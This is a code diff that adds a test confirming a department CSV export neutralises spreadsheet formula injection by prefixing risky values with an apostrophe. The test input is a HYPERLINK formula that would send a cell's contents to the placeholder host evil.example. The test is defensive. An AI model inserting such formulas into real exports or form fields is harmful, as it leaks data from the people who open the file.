@@ -4,6 +4,8 @@ applied once, even when read twice."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 from pathlib import Path
@@ -102,3 +104,25 @@ class TestFileExchange:
         for path in (to_department / "processed").iterdir():
             shutil.copy(path, to_department / path.name)
         assert exchange.ingest(to_department, department_db) == 0
+
+
+class TestCsvBatches:
+    def test_text_that_could_run_as_a_formula_is_written_as_text(
+        self,
+        engine: Engine,
+        register_system: SystemFactory,
+        applicant: Account,
+        tmp_path: Path,
+        department: str,
+    ) -> None:
+        # A CSV batch is what a department clerk opens in a spreadsheet program.
+        connector = file_connector(tmp_path / "out", tmp_path / "in")
+        connector["config"] = {"directory": str(tmp_path / "out"), "format": "csv"}
+        system = register_system([connector])
+        name = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
+        number = submit(engine, applicant, department, name=name)
+        assert dispatcher.dispatch_once(engine, systems=[system]).delivered == 1
+
+        (batch,) = (tmp_path / "out").glob("*.csv")
+        rows = list(csv.DictReader(io.StringIO(batch.read_text(encoding="utf-8-sig"))))
+        assert [(r["sqbh"], r["xm"]) for r in rows] == [(number, "'" + name)]
